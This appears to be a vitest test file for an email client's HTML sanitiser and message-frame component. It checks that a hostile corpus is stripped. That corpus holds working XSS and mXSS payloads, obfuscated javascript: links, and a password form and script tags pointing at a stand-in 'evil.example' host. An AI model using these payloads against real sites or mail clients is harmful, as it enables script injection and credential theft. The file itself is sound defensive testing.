// @vitest-environment jsdom
/**
 * The HTML-mail sanitiser (renderer/src/mail/safeHtml.ts) against a hostile corpus, and the
 * MessageBody component's frame and text rendering. Runs in jsdom (DOMPurify's supported
 * server-side DOM); the same code runs in Chromium in test/e2e/html-safety.spec.ts.
 *
 * Every output is also checked against invariants that must hold whatever the input: no
 * scripts or event handlers, no URL that is not an https link or a data: image, no CSS that
 * loads anything, no `<meta>` but our own, and the frame's own policy first in <head>.
 */
import { readdir, readFile } from 'node:fs/promises';
import { join, relative } from 'node:path';

import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { afterEach, describe, expect, it, vi } from 'vitest';

import { MessageBody } from '../../renderer/src/mail/MessageBody.js';
import {
  MAIL_FRAME_CONTENT_SECURITY_POLICY,
  MAX_FORMATTED_HTML_LENGTH,
  externalHttpsLink,
  prepareHtmlBody,
} from '../../renderer/src/mail/safeHtml.js';

// jsdom replaces the global URL, so the path is built from the test's directory.
const RENDERER_SRC = join(import.meta.dirname, '..', '..', 'renderer', 'src');

/** Parses the frame document the way the frame will. */
function parse(document: string): Document {
  return new DOMParser().parseFromString(document, 'text/html');
}

/** The message's part of the frame document: its body and its own <style> elements. */
function messageParts(document: string): { body: HTMLElement; styles: string[] } {
  const doc = parse(document);
  // The first <style> is our fixed stylesheet; the rest are the message's.
  const styles = Array.from(doc.head.querySelectorAll('style'))
    .slice(1)
    .map((style) => style.textContent);
  return { body: doc.body, styles };
}

const URL_ATTRIBUTES = [
  'href',
  'src',
  'srcset',
  'background',
  'action',
  'formaction',
  'xlink:href',
  'poster',
  'cite',
  'longdesc',
  'ping',
  'data',
  'codebase',
];

/** Asserts the invariants every sanitised document must meet, whatever the input. */
function expectSafe(document: string): void {
  const doc = parse(document);
  const head = doc.head;
  expect(head.firstElementChild?.outerHTML).toBe('<meta charset="utf-8">');
  const metas = Array.from(doc.querySelectorAll('meta'));
  expect(metas.map((meta) => meta.outerHTML)).toEqual([
    '<meta charset="utf-8">',
    `<meta http-equiv="Content-Security-Policy" content="${MAIL_FRAME_CONTENT_SECURITY_POLICY}">`,
    '<meta name="referrer" content="no-referrer">',
  ]);
  for (const tag of ['script', 'base', 'link', 'form', 'input', 'iframe', 'object', 'embed']) {
    expect(doc.querySelectorAll(tag), `<${tag}> survived`).toHaveLength(0);
  }
  for (const tag of ['svg', 'math', 'frame', 'frameset', 'template', 'noscript', 'button']) {
    expect(doc.querySelectorAll(tag), `<${tag}> survived`).toHaveLength(0);
  }
  for (const element of Array.from(doc.querySelectorAll('*'))) {
    for (const attribute of Array.from(element.attributes)) {
      const name = attribute.name.toLowerCase();
      expect(name.startsWith('on'), `${name} on <${element.localName}>`).toBe(false);
      if (!URL_ATTRIBUTES.includes(name)) continue;
      const tag = element.localName;
      if (name === 'href' && (tag === 'a' || tag === 'area')) {
        expect(attribute.value).toMatch(/^https:\/\/[^\s]+$/);
        expect(externalHttpsLink(attribute.value)).toBe(attribute.value);
        expect(element.getAttribute('target')).toBe('_blank');
        expect(element.getAttribute('rel')).toBe('noopener noreferrer');
      } else if (name === 'src' && tag === 'img') {
        expect(attribute.value).toMatch(/^data:image\//);
      } else {
        throw new Error(`<${tag} ${name}="${attribute.value}"> survived`);
      }
    }
    const style = element.getAttribute('style');
    if (style !== null) expect(style.toLowerCase()).not.toMatch(/url\(|image-set|expression/);
  }
  const messageStyles = messageParts(document).styles.join('\n').toLowerCase();
  expect(messageStyles).not.toContain('@import');
  expect(messageStyles).not.toContain('url(');
  expect(messageStyles).not.toContain('@font-face');
  expect(messageStyles).not.toContain('<');
}

/** Sanitises, checks the invariants, and returns the result. */
function sanitise(html: string): ReturnType<typeof prepareHtmlBody> {
  const result = prepareHtmlBody(html);
  expectSafe(result.document);
  return result;
}

afterEach(() => {
  vi.unstubAllGlobals();
});

describe('the hostile corpus', () => {
  it('drops <script> elements and their text', () => {
    const { document } = sanitise(
      '<p>before</p><script>window.pwned = 1</script><SCRIPT SRC=https://evil.example/x.js></SCRIPT><p>after</p>',
    );
    const { body } = messageParts(document);
    expect(body.textContent).toBe('beforeafter');
    expect(document).not.toContain('pwned');
    expect(document).not.toContain('evil.example');
  });

  it('drops event handler attributes but keeps the elements', () => {
    const { document } = sanitise(
      '<img src="x" onerror="alert(1)" alt="chart"><body onload="alert(2)"><p onclick="alert(3)" ONMOUSEOVER=alert(4)>text</p><details open ontoggle=alert(5)><summary>s</summary></details>',
    );
    const { body } = messageParts(document);
    expect(body.querySelector('img')?.getAttribute('alt')).toBe('chart');
    expect(body.querySelector('p')?.textContent).toBe('text');
    expect(document).not.toMatch(/alert/);
  });

  it.each([
    ['plain', 'javascript:alert(1)'],
    ['upper case', 'JaVaScRiPt:alert(1)'],
    ['entity-encoded letter', 'jav&#x61;script:alert(1)'],
    [
      'entity-encoded, no semicolons',
      '&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)',
    ],
    ['leading spaces', '   javascript:alert(1)'],
    ['tab inside the scheme', 'java\tscript:alert(1)'],
    ['encoded tab inside the scheme', 'java&#x09;script:alert(1)'],
    ['encoded newline inside the scheme', 'java&#10;script:alert(1)'],
    ['leading control character', '&#x01;javascript:alert(1)'],
    ['vbscript', 'vbscript:msgbox(1)'],
    ['data: html', 'data:text/html,<script>alert(1)</script>'],
    ['data: html in base64', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
    ['plain http', 'http://example.org/'],
    ['mailto', 'mailto:someone@example.org'],
    ['relative', '/api/call/status'],
    ['fragment', '#top'],
    ['https with credentials', 'https://user:pass@example.org/'],
  ])('removes a %s link target and keeps the link text', (_name, href) => {
    const { document, links } = sanitise(`<a href="${href}">Click here</a>`);
    const anchor = messageParts(document).body.querySelector('a');
    expect(anchor?.textContent).toBe('Click here');
    expect(anchor?.hasAttribute('href')).toBe(false);
    expect(links).toEqual([]);
  });

  it('keeps https links, opening nothing inside the frame, and returns them once each', () => {
    const { document, links } = sanitise(
      '<a href=" https://example.org/results?id=7 " target="_self">results</a>' +
        '<a href="https://example.org/results?id=7" target="_top">again</a>' +
        '<a href="HTTPS://Portal.Example.org/a b">portal</a>',
    );
    const anchors = Array.from(messageParts(document).body.querySelectorAll('a'));
    expect(anchors.map((a) => a.getAttribute('href'))).toEqual([
      'https://example.org/results?id=7',
      'https://example.org/results?id=7',
      'https://portal.example.org/a%20b',
    ]);
    for (const anchor of anchors) {
      expect(anchor.getAttribute('target')).toBe('_blank');
      expect(anchor.getAttribute('rel')).toBe('noopener noreferrer');
    }
    expect(links).toEqual(['https://example.org/results?id=7', 'https://portal.example.org/a%20b']);
  });

  it('removes remote images (src and srcset) and counts them, keeping data: images', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    const result = sanitise(
      '<img src="https://tracker.example/pixel.gif" alt="tracker">' +
        '<img srcset="https://img.example/a.png 1x, https://img.example/b.png 2x" alt="set">' +
        '<img src="//img.example/protocol-relative.png">' +
        `<img src="${png}" alt="inline">` +
        '<img src="cid:part1@example.org" alt="attachment">' +
        '<img src="/api/local.png" alt="relative">',
    );
    const images = Array.from(messageParts(result.document).body.querySelectorAll('img'));
    expect(images.map((img) => img.getAttribute('src'))).toEqual([
      null,
      null,
      null,
      png,
      null,
      null,
    ]);
    expect(images.map((img) => img.getAttribute('alt'))).toEqual([
      'tracker',
      'set',
      null,
      'inline',
      'attachment',
      'relative',
    ]);
    expect(result.document).not.toContain('img.example');
    expect(result.document).not.toContain('tracker.example');
    expect(result.remoteImagesBlocked).toBe(3);
  });

  it('puts in only the images the user chose to load, as the data: images the HISP fetched', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    const loaded = new Map([
      ['https://img.example/chart.png', png],
      // A map entry that is not a data: image is never put in.
      ['https://img.example/page.png', 'data:text/html;base64,PHNjcmlwdD4='],
    ]);
    const result = prepareHtmlBody(
      '<img id="a" src=" https://img.example/chart.png " alt="chart">' +
        '<img id="b" src="https://img.example/page.png">' +
        '<img id="c" src="https://img.example/other.png">' +
        '<img id="d" srcset="https://img.example/chart.png 2x">',
      loaded,
    );
    expectSafe(result.document);
    const { body } = messageParts(result.document);
    expect(body.querySelector('#a')?.getAttribute('src')).toBe(png);
    expect(body.querySelector('#b')?.hasAttribute('src')).toBe(false);
    expect(body.querySelector('#c')?.hasAttribute('src')).toBe(false);
    expect(body.querySelector('#d')?.hasAttribute('srcset')).toBe(false);
    expect(result.remoteImagesLoaded).toBe(1);
    expect(result.remoteImagesBlocked).toBe(3);
    expect(result.document).not.toContain('text/html');
  });

  it('removes remote backgrounds (attribute and inline style) and counts them', () => {
    const result = sanitise(
      '<table background="https://img.example/bg.png"><tr><td style="color: rgb(1, 2, 3); background: url(\'https://img.example/cell.png\') no-repeat">cell</td></tr></table>' +
        '<div style="background-image: URL(https://img.example/div.png)">div</div>',
    );
    const { body } = messageParts(result.document);
    expect(body.querySelector('table')?.hasAttribute('background')).toBe(false);
    expect(body.querySelector('td')?.getAttribute('style')).toContain('color: rgb(1, 2, 3)');
    expect(body.querySelector('div')?.hasAttribute('style')).toBe(false);
    expect(result.document).not.toContain('img.example');
    expect(result.remoteImagesBlocked).toBe(3);
  });

  it('removes @import and remote url() from <style>, keeping the harmless rules', () => {
    const result = sanitise(
      '<html><head><style>@import url(https://css.example/a.css); @import "https://css.example/b.css";' +
        ' p { color: rgb(200, 0, 0); background: url(https://img.example/p.png) }' +
        ' @media (max-width: 600px) { td { font-weight: bold; background-image: url(https://img.example/m.png) } }' +
        ' @font-face { font-family: Tracker; src: url(https://font.example/t.woff) }' +
        '</style></head><body><p>styled</p></body></html>',
    );
    const css = messageParts(result.document).styles.join('\n');
    expect(css).toContain('color: rgb(200, 0, 0)');
    expect(css).toMatch(/@media \(max-width: 600px\)/);
    expect(css).toContain('font-weight: bold');
    expect(result.document).not.toMatch(/css\.example|img\.example|font\.example/);
    // 2 imports, 2 url() backgrounds, 1 @font-face.
    expect(result.remoteImagesBlocked).toBe(5);
  });

  it('writes < in CSS as an escape, so a style cannot close its element', () => {
    const result = sanitise('<style>p::before { content: "<b>not markup</b>" }</style><p>x</p>');
    const css = messageParts(result.document).styles.join('\n');
    expect(css).toContain('\\3c b>not markup\\3c /b>');
    expect(parse(result.document).querySelectorAll('b')).toHaveLength(0);
  });

  it('drops a <style> it cannot parse safely (fail closed)', () => {
    vi.stubGlobal('CSSStyleSheet', undefined);
    const result = sanitise('<style>p { color: red }</style><p>x</p>');
    expect(messageParts(result.document).styles).toEqual([]);
    expect(messageParts(result.document).body.textContent).toBe('x');
  });

  it('removes <meta http-equiv=refresh>, <base>, <link> and <title>', () => {
    const { document } = sanitise(
      '<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css"><link rel="prefetch" href="https://evil.example/p"><title>Invoice</title></head>' +
        '<body><meta http-equiv="refresh" content="1"><a href="page">relative</a></body></html>',
    );
    expect(document).not.toContain('evil.example');
    expect(document).not.toContain('Invoice');
    expect(document.match(/http-equiv/g)).toHaveLength(1); // our own policy only
  });

  it('removes forms and their controls, keeping text', () => {
    const { document } = sanitise(
      '<form action="https://evil.example/steal" method="post"><label>Password <input type="password" name="pw"></label><button formaction="https://evil.example/b">Send</button><textarea>t</textarea><select><option>o</option></select></form>',
    );
    expect(document).not.toContain('evil.example');
    expect(messageParts(document).body.textContent).toContain('Password');
  });

  it('removes svg with scripts, handlers and links', () => {
    const { document } = sanitise(
      '<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>x</text></a><animate onbegin="alert(4)" attributeName="href" to="javascript:alert(5)"/><foreignObject><img src="https://img.example/f.png"></foreignObject></svg><p>ok</p>',
    );
    expect(document).not.toMatch(/alert|img\.example/);
    expect(messageParts(document).body.querySelector('p')?.textContent).toBe('ok');
  });

  it('defeats mathml namespace-confusion tricks (mXSS)', () => {
    const payloads = [
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
      '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(2)>"></style></h1>',
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(3)>',
      '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(4)></style></annotation-xml></math>',
      '<noscript><p title="</noscript><img src=x onerror=alert(5)>">',
      '<svg></p><style><a id="</style><img src=1 onerror=alert(6)>">',
    ];
    for (const payload of payloads) {
      const { document } = sanitise(payload);
      // Parsed again (as the frame will), nothing carries a handler or a non-data image.
      const doc = parse(document);
      for (const element of Array.from(doc.querySelectorAll('*'))) {
        expect(element.getAttributeNames().some((name) => name.startsWith('on'))).toBe(false);
      }
      expect(doc.querySelectorAll('math, svg, mglyph, noscript')).toHaveLength(0);
    }
  });

  it('survives deep nesting and stays safe (hostile structure)', () => {
    // Deeper than the 512 levels Chromium's parser keeps; jsdom gets slow far beyond this.
    const depth = 1000;
    const html = `${'<div>'.repeat(depth)}<img src=x onerror=alert(1)>deep${'</div>'.repeat(depth)}`;
    const { document } = sanitise(html);
    expect(parse(document).body.textContent).toContain('deep');
  });

  it('removes iframes, objects, embeds, media and dialogs', () => {
    const { document } = sanitise(
      '<iframe src="https://evil.example/f"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e"><video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3"></audio><dialog open>d</dialog><p>ok</p>',
    );
    expect(document).not.toMatch(/evil\.example|alert/);
    expect(
      parse(document).querySelectorAll('iframe, object, embed, video, audio, dialog'),
    ).toHaveLength(0);
  });

  it('keeps ordinary clinical formatting: headings, tables, lists, emphasis and colours', () => {
    const { document, remoteImagesBlocked, links } = sanitise(
      '<h2>Discharge summary</h2><table border="1" cellpadding="4"><tr><th>Test</th><td style="color: rgb(163, 34, 45)"><b>High</b></td></tr></table><ul><li><i>Aspirin</i> 81 mg</li></ul><font color="#336699">note</font>',
    );
    const { body } = messageParts(document);
    expect(body.querySelector('h2')?.textContent).toBe('Discharge summary');
    expect(body.querySelector('table')?.getAttribute('cellpadding')).toBe('4');
    expect(body.querySelector('td')?.getAttribute('style')).toContain('color: rgb(163, 34, 45)');
    expect(body.querySelector('li')?.textContent).toBe('Aspirin 81 mg');
    expect(body.querySelector('font')?.getAttribute('color')).toBe('#336699');
    expect(remoteImagesBlocked).toBe(0);
    expect(links).toEqual([]);
  });

  it('gives the frame our policy, referrer rule and stylesheet before any message style', () => {
    const { document } = sanitise('<style>p { color: red }</style><p>x</p>');
    const head = parse(document).head;
    expect(Array.from(head.children).map((child) => child.localName)).toEqual([
      'meta',
      'meta',
      'meta',
      'style',
      'style',
    ]);
    expect(MAIL_FRAME_CONTENT_SECURITY_POLICY).toContain("default-src 'none'");
    expect(MAIL_FRAME_CONTENT_SECURITY_POLICY).toContain('img-src data:;');
    expect(MAIL_FRAME_CONTENT_SECURITY_POLICY).not.toMatch(/'self'|https?:|\*/);
    expect(head.children[3]?.textContent).toContain('prefers-color-scheme: dark');
  });
});

describe('externalHttpsLink', () => {
  it('accepts only absolute https URLs without credentials, serialised', () => {
    expect(externalHttpsLink('https://example.org')).toBe('https://example.org/');
    expect(externalHttpsLink('http://example.org')).toBeUndefined();
    expect(externalHttpsLink('javascript:alert(1)')).toBeUndefined();
    expect(externalHttpsLink('//example.org/')).toBeUndefined();
    expect(externalHttpsLink('https://u:p@example.org/')).toBeUndefined();
    expect(externalHttpsLink('not a url')).toBeUndefined();
  });
});

describe('MessageBody', () => {
  function render(props: Parameters<typeof MessageBody>[0]): Document {
    return parse(renderToStaticMarkup(createElement(MessageBody, props)));
  }

  it('shows plain text as text, never as markup, keeping line breaks', () => {
    const text = 'Line one\n<script>window.pwned = 1</script>\n<img src=x onerror=alert(1)>';
    const doc = render({ messageId: 1, text });
    const shown = doc.querySelector('[data-testid="message-body-text"]');
    expect(shown?.textContent).toBe(text);
    expect(doc.querySelectorAll('script, img, iframe')).toHaveLength(0);
  });

  it('shows HTML in a frame with an empty sandbox, no referrer and a title', () => {
    const doc = render({
      messageId: 2,
      html: '<p>hello</p><img src="https://img.example/x.png"><a href="https://example.org/">site</a>',
      text: 'hello',
    });
    const frame = doc.querySelector('iframe');
    expect(frame?.getAttribute('sandbox')).toBe('');
    expect(frame?.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(frame?.getAttribute('title')).toBe('Message content');
    expect(frame?.hasAttribute('src')).toBe(false);
    expect(frame?.hasAttribute('allow')).toBe(false);
    const srcdoc = frame?.getAttribute('srcdoc') ?? '';
    expectSafe(srcdoc);
    expect(parse(srcdoc).body.querySelector('p')?.textContent).toBe('hello');
    expect(doc.querySelector('[data-testid="remote-images-blocked"]')?.textContent).toBe(
      'Remote images were blocked to protect your privacy (1).',
    );
    expect(
      Array.from(doc.querySelectorAll('[data-testid="message-link"]')).map((b) => b.textContent),
    ).toEqual(['example.orghttps://example.org/']);
    // The message's HTML is nowhere in the page itself, only inside the frame's srcdoc.
    expect(doc.querySelectorAll('img, a')).toHaveLength(0);
  });

  it('shows an oversized HTML body as its plain text, saying why', () => {
    const html = `<p>${'x'.repeat(MAX_FORMATTED_HTML_LENGTH)}</p>`;
    const doc = render({ messageId: 4, html, text: 'The plain version.' });
    expect(doc.querySelector('iframe')).toBeNull();
    expect(
      doc.querySelector('[data-testid="message-body-unsafe"]')?.getAttribute('data-reason'),
    ).toBe('too-large');
    expect(doc.querySelector('[data-testid="message-body-text"]')?.textContent).toBe(
      'The plain version.',
    );
  });

  it('says when there is no body', () => {
    const doc = render({ messageId: 3 });
    expect(doc.querySelector('[data-testid="message-body"]')?.getAttribute('data-kind')).toBe(
      'empty',
    );
  });
});

describe('the main document never receives message HTML', () => {
  async function sourceFiles(dir: string): Promise<string[]> {
    const entries = await readdir(dir, { withFileTypes: true, recursive: true });
    return entries
      .filter((entry) => entry.isFile() && /\.(tsx?|jsx?)$/.test(entry.name))
      .map((entry) => join(entry.parentPath, entry.name));
  }

  it('no HTML sink is used anywhere in renderer/src (this keeps style-src inline safe)', async () => {
    const files = await sourceFiles(RENDERER_SRC);
    expect(files.length).toBeGreaterThan(3);
    const sinks = [
      /dangerouslySetInnerHTML/,
      /\.innerHTML\s*[+]?=/,
      /\.outerHTML\s*[+]?=/,
      /insertAdjacentHTML/,
      /document\.write/,
      /createContextualFragment/,
      /setHTMLUnsafe|parseHTMLUnsafe/,
    ];
    const found: string[] = [];
    for (const file of files) {
      const source = await readFile(file, 'utf8');
      for (const sink of sinks)
        if (sink.test(source)) found.push(`${relative(RENDERER_SRC, file)}: ${sink}`);
      // Only the message body may build a frame document.
      if (/srcDoc|srcdoc\s*=/.test(source) && !file.endsWith(join('mail', 'MessageBody.tsx'))) {
        found.push(`${relative(RENDERER_SRC, file)}: srcdoc`);
      }
    }
    expect(found).toEqual([]);
  });
});
